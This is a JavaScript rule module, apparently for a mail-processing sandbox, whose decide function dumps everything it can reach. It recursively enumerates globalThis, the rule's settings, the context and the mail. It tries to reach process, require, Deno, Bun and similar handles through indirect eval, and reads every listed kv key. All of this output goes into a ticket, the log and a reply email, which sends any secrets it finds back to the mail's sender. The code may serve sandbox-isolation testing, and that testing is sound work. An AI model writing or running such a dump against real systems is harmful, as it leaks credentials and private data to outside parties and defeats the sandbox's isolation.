// Reveals everything that it can reach, in the ticket, the log and a reply: a secret among it would be found there.
const atTopLevel = found({ globalThis });

function found(roots) {
  const lines = [];
  const seen = new Set();
  const walk = (path, value, depth) => {
    if (value === null || (typeof value !== "object" && typeof value !== "function")) {
      lines.push(`${path} = ${String(value)}`);
      return;
    }
    if (seen.has(value) || depth > 4) return;
    seen.add(value);
    for (const key of Reflect.ownKeys(value)) {
      try {
        walk(`${path}.${String(key)}`, value[key], depth + 1);
      } catch (error) {
        lines.push(`${path}.${String(key)} ! ${error}`);
      }
    }
    walk(`${path}.[[Prototype]]`, Object.getPrototypeOf(value), depth + 1);
  };
  for (const [name, value] of Object.entries(roots)) walk(name, value, 0);
  return lines;
}

function attempt(label, reach) {
  try {
    return `${label} = ${reach()}`;
  } catch (error) {
    return `${label} ! ${error}\n${error.stack}`;
  }
}

export function decide(mail, ctx) {
  const names = ["process", "require", "std", "os", "Deno", "Bun", "scriptArgs", "environment"];
  // Only if kv is granted: using it without the grant ends the rule.
  const keys = ctx.settings.keys ?? [];
  const lines = [
    ...found({ settings: ctx.settings, ctx, mail }),
    ...names.map((name) => attempt(name, () => found({ it: (0, eval)(name) }))),
    ...keys.map((key) => attempt(`kv ${key}`, () => ctx.kv.get(key))),
    ...found({ globalThis }),
    ...atTopLevel,
  ];
  for (const line of lines.slice(0, 300)) console.log(line.slice(0, 200));
  const text = lines.join("\n").slice(0, 100000);
  return [ticket({ title: "dump", body: text }), reply({ text })];
}
